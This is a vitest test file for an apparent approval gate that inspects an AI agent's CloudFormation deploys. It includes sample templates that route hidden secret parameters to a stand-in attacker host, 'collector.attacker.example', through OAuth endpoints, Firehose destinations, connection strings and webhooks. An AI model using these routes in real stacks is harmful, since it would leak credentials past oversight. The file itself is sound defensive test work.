import { afterAll, beforeAll, expect, test } from 'vitest';
import { REASON } from '../scenes/front-door.ts';
import { type Scene, setScene } from '../scenes/whole.ts';

/*
 * An agent in a development stack has AWS send what AWS never shows to a host of the agent's own: the address stands in
 * the same template.
 */

const PASSWORD = 'Correct-Horse-Battery9';
const PIN = { Ref: 'Pin' };
const ELSEWHERE = 'collector.attacker.example';
const TOPIC = { Type: 'AWS::SNS::Topic', Properties: { DisplayName: 'plain' } };
const BUCKET = { Type: 'AWS::S3::Bucket' };
const ROLE = {
  Type: 'AWS::IAM::Role',
  Properties: {
    AssumeRolePolicyDocument: {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: { Service: 'firehose.amazonaws.com' }, Action: 'sts:AssumeRole' }],
    },
  },
};
const oauth = (AuthorizationEndpoint: unknown, ClientID = 'a') => ({
  Type: 'AWS::Events::Connection',
  Properties: {
    AuthorizationType: 'OAUTH_CLIENT_CREDENTIALS',
    AuthParameters: {
      OAuthParameters: { AuthorizationEndpoint, HttpMethod: 'POST', ClientParameters: { ClientID, ClientSecret: PIN } },
    },
  },
});
const apiKey = {
  Type: 'AWS::Events::Connection',
  Properties: {
    AuthorizationType: 'API_KEY',
    AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: 'x-key', ApiKeyValue: PIN } },
  },
};
const arn = (id: string) => ({ 'Fn::GetAtt': [id, 'Arn'] });
const hose = (host: string) => ({
  Type: 'AWS::KinesisFirehose::DeliveryStream',
  Properties: {
    HttpEndpointDestinationConfiguration: {
      EndpointConfiguration: { Url: `https://${host}/`, AccessKey: PIN },
      RoleARN: arn('Role'),
      S3Configuration: { BucketARN: arn('Bucket'), RoleARN: arn('Role') },
    },
  },
});
const HERE = 'https://login.partner.example/token';
const host = (Url: string) => ({ 'Fn::Sub': `https://\${${Url}}/token` });
const at = (to: string) => ({ 'Fn::Sub': `postgres://app:\${Pin}@${to}/db` });
const hook = (to: unknown) => ({ 'Fn::Join': ['', ['https://', to, '/hook?key=', PIN]] });
const topic = (DisplayName: unknown) => ({ Type: 'AWS::SNS::Topic', Properties: { DisplayName } });
const TEMPLATE = {
  Parameters: {
    Pin: { Type: 'String', NoEcho: true },
    Host: { Type: 'String' },
    Kept: { Type: 'String', NoEcho: true },
  },
  Resources: {
    Topic: TOPIC,
    Bucket: BUCKET,
    Role: ROLE,
    Conn: oauth(HERE),
    By: oauth(host('Host')),
    Stream: hose('intake.partner.example'),
    Base: topic(at(`\${Host}`)),
    OfKept: topic(at(`\${Kept}`)),
    Hook: topic(hook('hooks.partner.example')),
    Login: topic({ 'Fn::Sub': `Server=tcp:db.partner.example,1433;Password=\${Pin}` }),
    Words: topic({ 'Fn::Sub': `see https://hooks.partner.example, \${Pin}` }),
  },
};
const OF_KEPT = { Parameters: TEMPLATE.Parameters, Resources: { Topic: TOPIC, By: oauth(host('Kept')) } };
const VALUES = { Pin: PASSWORD, Host: 'login.partner.example', Kept: 'hidden.partner.example' };

let scene: Scene;
beforeAll(async () => {
  scene = await setScene(
    {
      stacks: [
        { name: 'shop', template: TEMPLATE, parameters: VALUES },
        { name: 'dev-kept', template: OF_KEPT, parameters: VALUES },
      ],
    },
    {
      config: 'environments: [{ name: development, match: { stack_names: [shop, dev-kept] } }]\n',
      latencyMs: 2,
      serve: [],
    },
  );
}, 60_000);
afterAll(async () => await scene?.[Symbol.asyncDispose]());

async function deploy(change: object, more: object = {}) {
  const template = { ...TEMPLATE, Resources: { ...TEMPLATE.Resources, ...change } };
  const answer = await scene.agent.call('cloudformation_deploy_stack', {
    ...{ stack_name: 'shop', template_body: JSON.stringify(template), capabilities: ['CAPABILITY_IAM'] },
    ...{ reason: REASON, ...more },
  });
  expect(JSON.stringify(answer)).not.toMatch(/correct.?horse|battery9/i);
  const impact = (answer.plan?.impact ?? []) as readonly { readonly effect: string; readonly detail: string }[];
  const lines = impact.map(({ effect, detail }) => `${effect} ${detail}`);
  return { answer, lines, sent: lines.filter((line) => /^expose .* has AWS send a hidden value/.test(line)) };
}

test.each<[string, object, RegExp, object?]>([
  [
    'a new connection',
    { New: oauth(`https://${ELSEWHERE}/`) },
    /^expose New: .*ClientSecret has AWS send .*Pin.*AuthorizationEndpoint/,
  ],
  [
    'a connection that moves',
    { Conn: oauth(`https://${ELSEWHERE}/`) },
    /^expose Conn: .*ClientSecret .*AuthorizationEndpoint/,
  ],
  ['one that moves by a parameter', {}, /^expose By: .*ClientSecret/, { parameters: { Host: ELSEWHERE } }],
  ['one at an address that is hidden', { Conn: oauth(host('Kept')) }, /^expose Conn: .*ClientSecret/],
  ['a new stream', { New: hose(ELSEWHERE) }, /^expose New: .*AccessKey has AWS send .*Pin.*EndpointConfiguration\.Url/],
  ['a stream that moves', { Stream: hose(ELSEWHERE) }, /^expose Stream: .*AccessKey .*Url/],
  ['what those who use it send on', { New: apiKey }, /^expose New: .*ApiKeyValue has AWS send .*its users name/],
])('a hidden value that AWS would send elsewhere takes a decision: %s', async (_, change, line, more) => {
  const { answer, sent } = await deploy(change, more);
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('pending');
  expect(sent).toEqual([expect.stringMatching(line)]);
});

test.each<[string, object, RegExp, object?]>([
  ['in a text', { Base: topic(at(ELSEWHERE)) }, /^expose Base: /],
  ['in a list that is joined', { Hook: topic(hook(ELSEWHERE)) }, /^expose Hook: /],
  [
    'in words for a driver',
    { Login: topic({ 'Fn::Sub': `Server=tcp:${ELSEWHERE},1433;Password=\${Pin}` }) },
    /^expose Login: /,
  ],
  ['as a parameter', {}, /^expose Base: /, { parameters: { Host: ELSEWHERE } }],
  ['as a parameter that is hidden, and given', {}, /^expose OfKept: /, { parameters: { Kept: ELSEWHERE } }],
])('a hidden value in an address takes a decision where its host is another, %s', async (_, change, line, more) => {
  const { answer, lines } = await deploy(change, more);
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('pending');
  const found = lines.filter((one) => /shows a hidden value .*, and to what is at the address/.test(one));
  expect(found).toEqual([expect.stringMatching(line)]);
});

test('an address that is hidden, and given, takes a decision', async () => {
  const template_body = JSON.stringify({ ...OF_KEPT, Resources: { ...OF_KEPT.Resources, Topic: topic('x') } });
  const { answer, sent } = await deploy({}, { stack_name: 'dev-kept', template_body, parameters: { Kept: ELSEWHERE } });
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('pending');
  expect(sent).toEqual([expect.stringMatching(/^expose By: .*ClientSecret/)]);
});

test('a text that is no address, and an address of which all that is hidden is given, show nothing new', async () => {
  const Words = topic({ 'Fn::Sub': `look at https://${ELSEWHERE}, \${Pin}` });
  const { answer, lines } = await deploy({ Words, OfKept: TOPIC }, { parameters: { Pin: 'Another-One1' } });
  expect(answer.plan.impact.length, JSON.stringify(answer)).toBeGreaterThan(0);
  expect(lines.filter((one) => /shows a hidden value/.test(one))).toEqual([]);
});

test('what goes where it went before is not said to be sent', async () => {
  const { answer, sent } = await deploy({ Topic: { ...TOPIC, Properties: { DisplayName: 'another' } } });
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('succeeded');
  expect(sent).toEqual([]);
});
